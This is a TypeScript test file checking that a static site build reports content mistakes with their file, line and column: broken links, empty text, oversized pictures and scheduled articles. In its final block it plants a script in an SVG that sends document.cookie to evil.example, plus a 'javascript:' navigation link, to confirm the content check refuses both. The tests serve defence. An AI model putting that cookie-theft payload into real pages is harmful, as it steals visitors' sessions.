/**
 * The built site verified (build/stages/verify.ts), one invariant at a time, on the fixture site:
 * each mistake below passes the content check and breaks a page; the build must fail with a
 * message saying what a visitor would have seen and the content file, line and column to fix.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { build } from '../../build/build.ts';
import { checkContent, projectPaths, type Paths } from '../../build/pipeline.ts';
import { hasErrors, type Problem } from '../../build/problems.ts';
import { ROOT } from '../helpers/content.ts';

const FIXTURE = join(ROOT, 'tests', 'fixtures', 'site', 'content');
const temps: string[] = [];

function fixtureCopy(): Paths {
  const dir = mkdtempSync(join(tmpdir(), 'verify-output-'));
  temps.push(dir);
  cpSync(FIXTURE, join(dir, 'content'), { recursive: true });
  return projectPaths(ROOT, { content: join(dir, 'content'), displayRoot: dir, dist: join(dir, 'dist') });
}

function edit(paths: Paths, file: string, change: (text: string) => string): void {
  const abs = join(paths.content, file);
  const before = readFileSync(abs, 'utf8');
  const after = change(before);
  if (after === before) throw new Error(`the edit of ${file} changed nothing`);
  writeFileSync(abs, after);
}

/** `file:line:column  field: message [code]`, as the terminal prints it (without the excerpt). */
/** `file:line:column` of the first `needle` in a content file as edited (plain indexOf, independent of the build's lookup). */
function at(paths: Paths, file: string, needle: string, offset = 0): string {
  const text = readFileSync(join(paths.content, file), 'utf8');
  const i = text.indexOf(needle);
  if (i < 0) throw new Error(`${needle} is not in ${file}`);
  const before = text.slice(0, i + offset);
  return `content/${file}:${before.split('\n').length}:${before.length - before.lastIndexOf('\n')}`;
}

const shown = (p: Problem) => `${p.file}:${p.line}:${p.column}  ${p.field ? `${p.field}: ` : ''}${p.message} [${p.code}]`;

afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

describe('the built pages are verified, and each failure points at the content', () => {
  let problems: Problem[];
  let checked: Problem[];
  let paths: Paths;
  const withCode = (code: string) => problems.filter((p) => p.code === code).map(shown);

  beforeAll(async () => {
    paths = fixtureCopy();
    // Every mistake is in a place of its own; none of them is caught by the content check.
    edit(paths, 'docs/release-checklist.md', (t) => `${t}
Our <b>release</b> notes.

See **the checklist for details.

- 
- Second step

Jump to [the summary](#summary).

![](/images/logo.svg)
`);
    // A line that looks like a link definition to Markdown is not shown: the words are lost.
    edit(paths, 'services/python-development.yaml', (t) => t.replace('overview: |\n', 'overview: |\n  [Prices to confirm with Priya]: /pricing\n\n'));
    edit(paths, 'legal/privacy-policy.md', (t) => `${t}\nRead [our checklist](/docs/release-checklist#nothing-here).\n`);
    edit(paths, 'site.yaml', (t) => t.replace('- { label: Blog, href: /blog }', '- { label: Blog, href: "https://example.com/our blog" }'));
    // A drawing exported with its editing data: 6 MB, more than a page may load for one picture.
    edit(paths, 'images/logo.svg', (t) => t.replace('<svg', `<!-- ${'editor data '.repeat(520_000)} -->\n<svg`));
    checked = checkContent(paths).problems.filter((p) => p.severity === 'error');
    problems = (await build(paths, { compress: false })).problems;
  }, 180_000);

  test('the mistakes pass the content check: only the built pages show them', () => {
    expect(checked.map(shown)).toEqual([]);
    expect(hasErrors(problems)).toBe(true);
  });

  test('markup shown as text: an HTML tag and an unclosed ** are found at their line and column', () => {
    expect(withCode('output-markup-as-text')).toEqual([
      `${at(paths, 'docs/release-checklist.md', '<b>release')}  body: on /docs/release-checklist, visitors would read "<b>release</b> notes." as text [output-markup-as-text]`,
      `${at(paths, 'docs/release-checklist.md', '**the checklist')}  body: on /docs/release-checklist, visitors would read "**the checklist for details." as text [output-markup-as-text]`,
    ]);
  });

  test('text left empty: an empty list item and a picture without a description, at their lines', () => {
    expect(withCode('output-empty-text')).toEqual([
      `${at(paths, 'docs/release-checklist.md', '- \n- Second')}  body: on /docs/release-checklist, an element <li> would have no text [output-empty-text]`,
      `${at(paths, 'docs/release-checklist.md', '![](/images/logo.svg)')}  body: on /docs/release-checklist, the description (alt) of the picture /images/logo.svg would have no text [output-empty-text]`,
    ]);
  });

  test('fragment links: to a heading of the same page and of another page that do not exist', () => {
    expect(withCode('output-fragment-missing')).toEqual([
      `${at(paths, 'legal/privacy-policy.md', '/docs/release-checklist#nothing-here')}  body: the link "/docs/release-checklist#nothing-here" on /privacy-policy leads to no heading or section of /docs/release-checklist [output-fragment-missing]`,
      `${at(paths, 'docs/release-checklist.md', '#summary')}  body: the link "#summary" on /docs/release-checklist leads to no heading or section of this page [output-fragment-missing]`,
    ]);
  });

  test('an address with a space, written in the navigation, is reported at its line in site.yaml', () => {
    expect(withCode('output-url-malformed')).toEqual([
      `${at(paths, 'site.yaml', 'https://example.com/our blog')}  nav[2].href: the address "https://example.com/our blog" on every page contains a space, a quote or another character an address cannot hold [output-url-malformed]`,
    ]);
  });

  test('a required text that does not reach its page is reported at its field', () => {
    expect(withCode('output-text-missing')).toEqual([
      `${at(paths, 'services/python-development.yaml', '|\n  [Prices to confirm')}  overview: this text does not appear on /services/python-development [output-text-missing]`,
    ]);
  });

  test('a picture too large for a page is reported where the content names it', () => {
    expect(withCode('output-picture')).toEqual([
      `${at(paths, 'site.yaml', '/images/logo.svg')}  logo: the picture "/images/logo.svg" on every page is 6.0 MB, more than the 5 MB a page may load for one picture [output-picture]`,
    ]);
  });
});

describe('an article dated after the build\'s day is scheduled', () => {
  let paths: Paths;
  let problems: Problem[];
  const dist = (file: string) => readFileSync(join(paths.dist, file), 'utf8');

  beforeAll(async () => {
    paths = fixtureCopy();
    edit(paths, 'blog/blockchain-development.md', (t) => t.replace('date: 2025-06-10', 'date: 2027-03-01'));
    problems = (await build(paths, { compress: false, today: '2026-11-26' })).problems;
  }, 180_000);

  test('the build passes and says, as information, when it will appear', () => {
    expect(hasErrors(problems)).toBe(false);
    expect(problems.filter((p) => p.code === 'article-scheduled').map((p) => `${shown(p)} (${p.severity})`)).toEqual([
      `${at(paths, 'blog/blockchain-development.md', '2027-03-01')}  date: scheduled — this article will appear on 1 March 2027; it is left out of the site until then [article-scheduled] (info)`,
    ]);
  });

  test('it has no page and is in no list, feed, sitemap or search index; the article of the past is', () => {
    expect(() => dist('blog/blockchain-development/index.html')).toThrow();
    for (const file of ['blog/index.html', 'blog/feed.xml', 'sitemap.xml', 'search-index.json', 'blog/category/blockchain/index.html']) {
      let text = '';
      try {
        text = dist(file);
      } catch {
        continue; // the category page has no other article, so it is not made either
      }
      expect(text, file).not.toContain('blockchain-development');
    }
    expect(dist('blog/feed.xml')).toContain('/blog/ai-healthcare-solutions');
    expect(dist('sitemap.xml')).toContain('/blog/ai-healthcare-solutions');
  });

  test('on its day it is published', async () => {
    const later = (await build(paths, { compress: false, today: '2027-03-01' })).problems;
    expect(later.filter((p) => p.code === 'article-scheduled')).toEqual([]);
    expect(dist('blog/blockchain-development/index.html')).toContain('Blockchain Development Done Right');
    expect(dist('blog/feed.xml')).toContain('/blog/blockchain-development');
  }, 180_000);
});

describe('the examples of issue 24 that the content check itself refuses, on the fixture site', () => {
  let paths: Paths;
  let problems: Problem[];
  beforeAll(() => {
    paths = fixtureCopy();
    edit(paths, 'blog/ai-healthcare-solutions.md', (t) => t.replace(/^author: .*$/m, 'author: "   "').replace(/^date: .*$/m, 'date: 2025-02-30').replace(/\n## /, '\n<!-- check these figures with the clinic\n\n## '));
    edit(paths, 'images/logo.svg', (t) => t.replace(/(<svg[^>]*>)/, '$1\n<script>document.location="https://evil.example/?"+document.cookie</script>'));
    edit(paths, 'site.yaml', (t) => t.replace('- { label: Blog, href: /blog }', '- { label: Blog, href: "javascript:alert(1)" }'));
    problems = checkContent(paths).problems;
  });

  test('each is an error at its content line, saying what a visitor would have got', () => {
    const byCode = (code: string) => problems.filter((p) => p.code === code).map(shown);
    expect(byCode('value-blank')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '"   "')}  author: this text is only spaces, so the page would show nothing here [value-blank]`]);
    expect(byCode('date-impossible')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '2025-02-30')}  date: 30 February 2025 does not exist [date-impossible]`]);
    expect(byCode('markdown-comment-unclosed')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '<!-- check')}  body: a note starts here with "<!--" but is never closed with "-->" [markdown-comment-unclosed]`]);
    expect(byCode('svg-unsafe')).toEqual([`${at(paths, 'images/logo.svg', '<script>')}  the vector picture "/images/logo.svg" contains a <script> element, which could run code on the site [svg-unsafe]`]);
    expect(byCode('link-unsafe')).toEqual([`${at(paths, 'site.yaml', '"javascript:')}  nav[2].href: a "javascript:" link runs code or opens embedded data instead of a page, so it is not allowed [link-unsafe]`]);
  });
});
